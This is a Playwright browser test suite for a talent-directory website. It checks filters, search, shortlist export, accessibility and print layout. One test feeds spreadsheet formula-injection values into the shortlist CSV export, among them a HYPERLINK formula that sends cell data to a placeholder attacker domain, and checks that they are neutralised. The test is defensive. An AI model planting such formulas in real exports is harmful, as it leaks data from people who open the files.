"""What employers click, in a real browser: Debian's chromium driven by Playwright."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import urlparse

import pytest

from conftest import ROOT, SiteServer, browser_page

pytestmark = [pytest.mark.browser, pytest.mark.slow]
AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"


@pytest.fixture(scope="module")
def server(built_fixture_site):
    s = SiteServer(built_fixture_site)
    yield s
    s.close()


@pytest.fixture
def page(browser, server):
    """A fresh browser context; records console errors and any request that leaves the site's origin."""
    context = browser.new_context(viewport={"width": 1100, "height": 900}, accept_downloads=True)
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
    pg = context.new_page()
    pg.errors, pg.foreign = [], []
    pg.on("console", lambda m: m.type == "error" and pg.errors.append(m.text))
    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
    origin = urlparse(server.url).netloc

    def route(r):
        url = urlparse(r.request.url)
        if url.scheme in ("http", "https") and url.netloc != origin:
            pg.foreign.append(r.request.url)
            return r.abort()
        return r.continue_()

    context.route("**/*", route)
    yield pg
    context.close()


def card_ids(pg) -> list[str]:
    return pg.locator("#tp-cards .tp-card").evaluate_all("cards => cards.map(c => c.dataset.id)")


def wait_for_count(pg, text: str):
    pg.wait_for_function("t => document.getElementById('tp-count').textContent.startsWith(t)", arg=text)


def test_directory_lists_available_people_first_without_filters(page, server):
    page.goto(server.url + "/talent/")
    ids = card_ids(page)
    assert set(ids) == {"nairobi-dev", "tokyo-designer", "bogota-writer", "kolkata-analyst", "baghdad-translator",
                        "photo-shown", "photo-withheld"}
    statuses = page.locator("#tp-cards .tp-status").all_text_contents()
    assert statuses.index("Working (placed)") > statuses.index("Open to offers") > statuses.index("Available now")


def test_filter_by_skill(page, server):
    page.goto(server.url + "/talent/")
    page.select_option("select[name=skill]", "Python")
    wait_for_count(page, "2 people match")
    assert sorted(card_ids(page)) == ["kolkata-analyst", "nairobi-dev"]
    assert "skill=Python" in page.url


def test_filter_by_language_with_minimum_level(page, server):
    page.goto(server.url + "/talent/")
    page.select_option("select[name=lang]", "en")
    page.select_option("select[name=level]", "C1")
    wait_for_count(page, "4 people match")
    assert sorted(card_ids(page)) == ["kolkata-analyst", "nairobi-dev", "photo-shown", "photo-withheld"]
    page.select_option("select[name=lang]", "ckb")
    wait_for_count(page, "1 person matches")
    assert card_ids(page) == ["baghdad-translator"]


def test_filter_by_time_zone_overlap_shows_overlap_on_cards(page, server):
    page.goto(server.url + "/talent/")
    page.fill("input[name=tz]", "UTC")
    page.fill("input[name=overlap]", "4")
    wait_for_count(page, "4 people match")
    # 09:00-17:00 UTC against 09:00-17:00 local: Nairobi/Baghdad +3 share 5 h, UTC 8 h; Tokyo 0, Bogota 3, Kolkata 2.5
    assert sorted(card_ids(page)) == ["baghdad-translator", "nairobi-dev", "photo-shown", "photo-withheld"]
    card = page.locator(".tp-card[data-id=nairobi-dev]")
    assert "5 h overlap with you" in card.text_content()


def test_shared_url_restores_filters(page, server):
    page.goto(server.url + "/talent/?skill=Python&tz=UTC&overlap=4")
    wait_for_count(page, "1 person matches")
    assert card_ids(page) == ["nairobi-dev"]
    assert page.input_value("select[name=skill]") == "Python"
    assert page.input_value("input[name=tz]") == "UTC"
    assert page.input_value("input[name=overlap]") == "4"


def test_search_for_a_word_in_a_summary_finds_the_profile(page, server):
    page.goto(server.url + "/talent/")
    page.fill("input[name=q]", "zanzibarite")
    wait_for_count(page, "1 person matches")
    assert card_ids(page) == ["baghdad-translator"]
    assert any("/pagefind/" in r for r in page.evaluate("performance.getEntries().map(e => e.name)"))


def test_shortlist_survives_reload_and_exports(page, server):
    page.goto(server.url + "/talent/")
    page.locator(".tp-card[data-id=nairobi-dev] .tp-shortlist-toggle").click()
    page.goto(server.url + "/talent/tokyo-designer/")
    page.locator(".tp-shortlist-toggle").click()
    assert page.locator(".tp-shortlist-toggle").text_content() == "★ On your shortlist"
    page.reload()
    assert page.locator(".tp-shortlist-toggle").get_attribute("aria-pressed") == "true"
    page.goto(server.url + "/shortlist/")
    assert page.locator("#tp-sl-list a").all_text_contents() == ["Neema Nairobi", "Taro Tokyo"]
    with page.expect_download() as download:
        page.click("#tp-sl-csv")
    rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))
    assert rows[0] == ["id", "name", "profile"]
    assert [r[:2] for r in rows[1:]] == [["nairobi-dev", "Neema Nairobi"], ["tokyo-designer", "Taro Tokyo"]]
    assert rows[1][2] == server.url + "/talent/nairobi-dev/"
    mail = page.get_attribute("#tp-sl-email", "href")
    assert mail.startswith("mailto:talent@example.org?subject=Shortlist%3A%202%20people") and "nairobi-dev" in mail
    page.click("#tp-sl-copy")
    link = page.evaluate("navigator.clipboard.readText()")
    assert link == server.url + "/shortlist/?ids=nairobi-dev%2Ctokyo-designer"


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"CV\")", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
            "＝1+1", "Quote \"and\", comma", "Line\nbreak", "Plain Name"]


def test_shortlist_csv_neutralises_formulas(page, server):
    # a name is whatever the profile says (or whatever sits in this browser's storage): a spreadsheet must not run it
    page.goto(server.url + "/shortlist/")
    items = [{"id": f"person-{i}", "name": name} for i, name in enumerate(FORMULAS)]
    page.evaluate("items => localStorage.setItem('tp-shortlist', JSON.stringify(items))", items)
    page.reload()
    with page.expect_download() as download:
        page.click("#tp-sl-csv")
    raw = Path(download.value.path()).read_bytes().decode("utf-8")      # as written: \r kept
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + n for n in FORMULAS[:7]] + FORMULAS[7:]
    assert all(len(r) == 3 for r in rows) and all(cell[:1] not in "=+-@\t\r＝" for r in rows for cell in r)
    cell = r'"(?:[^"]|"")*"'
    assert all(re.fullmatch(f"{cell},{cell},{cell}", record, re.S) for record in raw.split("\r\n")[1:-1])


def test_a_shared_shortlist_link_fills_an_empty_shortlist(browser, server):
    with browser_page(browser) as pg:
        pg.goto(server.url + "/shortlist/?ids=bogota-writer,kolkata-analyst,not-a-person")
        pg.wait_for_function("document.querySelectorAll('#tp-sl-list a').length === 2")
        assert pg.locator("#tp-sl-list a").all_text_contents() == ["Bea Bogota", "Kavi Kolkata"]


def test_pages_read_with_javascript_disabled(browser, server):
    with browser_page(browser, java_script_enabled=False) as pg:
        pg.goto(server.url + "/talent/")
        assert len(pg.locator(".tp-card").all()) == 7
        assert pg.locator("#tp-filters").is_hidden()
        pg.click("text=Bashar Baghdad")
        assert pg.url.endswith("/talent/baghdad-translator/")
        body = pg.locator("article.tp-profile").inner_text()
        for expected in ("Bashar Baghdad", "Translation", "Central Kurdish (Sorani)", "Request an introduction", "zanzibarite"):
            assert expected in body
        pg.goto(server.url + "/shortlist/")
        assert "needs JavaScript" in pg.locator("body").inner_text()


@pytest.mark.parametrize("path", ["/", "/talent/", "/talent/baghdad-translator/", "/talent/photo-shown/", "/employers/",
                                  "/shortlist/", "/contributing/profile/", "/impact/", "/impact/method/"])
def test_no_accessibility_violations_console_errors_or_foreign_requests(page, server, path):
    page.goto(server.url + path)
    page.wait_for_load_state("networkidle")
    page.add_script_tag(path=str(AXE))
    result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    violations = [(v["id"], [n["target"] for n in v["nodes"]][:3]) for v in result["violations"]]
    assert violations == []
    assert page.errors == []
    assert page.foreign == []


@pytest.mark.parametrize("path", ["/contributing/fields/", "/impact/"])
def test_tables_and_charts_that_scroll_on_a_phone_can_be_reached_by_keyboard(page, server, path):
    # a box that scrolls sideways with nothing focusable in it cannot be read without a pointer
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(server.url + path)
    page.wait_for_load_state("networkidle")
    scrolling = page.evaluate("""() => [...document.querySelectorAll('.md-typeset__scrollwrap, figure.tp-chart')]
        .filter(b => b.scrollWidth > b.clientWidth + 1).map(b => [b.tabIndex, b.getAttribute('aria-label')])""")
    assert scrolling and all(tab == 0 for tab, _ in scrolling)
    page.add_script_tag(path=str(AXE))
    result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    assert [v["id"] for v in result["violations"]] == []
    page.set_viewport_size({"width": 1400, "height": 900})      # wide enough: the tables leave the tab order
    page.wait_for_function("() => [...document.querySelectorAll('.md-typeset__scrollwrap')].every(w => w.tabIndex < 0)")


def test_filtering_and_search_make_no_foreign_requests(page, server):
    page.goto(server.url + "/talent/?q=Python&tz=Europe/Berlin")
    wait_for_count(page, "2 people match")
    page.wait_for_load_state("networkidle")
    assert page.errors == [] and page.foreign == []


def test_json_resume_download_is_valid(page, server):
    import jsonschema

    page.goto(server.url + "/talent/baghdad-translator/")
    with page.expect_download() as download:
        page.click("text=Download CV data")
    resume = json.loads(Path(download.value.path()).read_text())
    schema = json.loads((ROOT / "node_modules" / "@jsonresume" / "schema" / "schema.json").read_text())
    jsonschema.validate(resume, schema, format_checker=jsonschema.FormatChecker())
    assert resume["basics"]["name"] == "Bashar Baghdad"
    assert {s["name"] for s in resume["skills"]} == {"Translation", "Subtitling"}


def test_search_alone_uses_the_search_index_not_the_card_index(page, server):
    page.goto(server.url + "/talent/")
    page.fill("input[name=q]", "beekeeping")
    wait_for_count(page, "1 person matches")
    assert card_ids(page) == ["baghdad-translator"]
    card = page.locator(".tp-card[data-id=baghdad-translator]")
    assert card.locator("mark").first.text_content().lower().startswith("beekeeping")
    assert "Bashar Baghdad" in card.text_content()
    assert card.locator("h2 a").get_attribute("href") == "baghdad-translator/"
    loaded = page.evaluate("performance.getEntries().map(e => e.name)")
    assert not any(u.endswith("cards.json") for u in loaded)


def test_search_for_a_skill_word_finds_the_profile(page, server):
    page.goto(server.url + "/talent/")
    page.fill("input[name=q]", "Subtitling")
    wait_for_count(page, "1 person matches")
    assert card_ids(page) == ["baghdad-translator"]


def test_a_profile_prints_on_one_page(browser, server):
    with browser_page(browser) as pg:
        pg.goto(server.url + "/talent/baghdad-translator/")
        pg.emulate_media(media="print")
        assert not pg.locator(".md-header").is_visible() and not pg.locator(".tp-actions").is_visible()
        pdf = pg.pdf(format="A4")
        pages = len(re.findall(rb"/Type\s*/Page(?!s)", pdf))
        assert pages == 1, pages
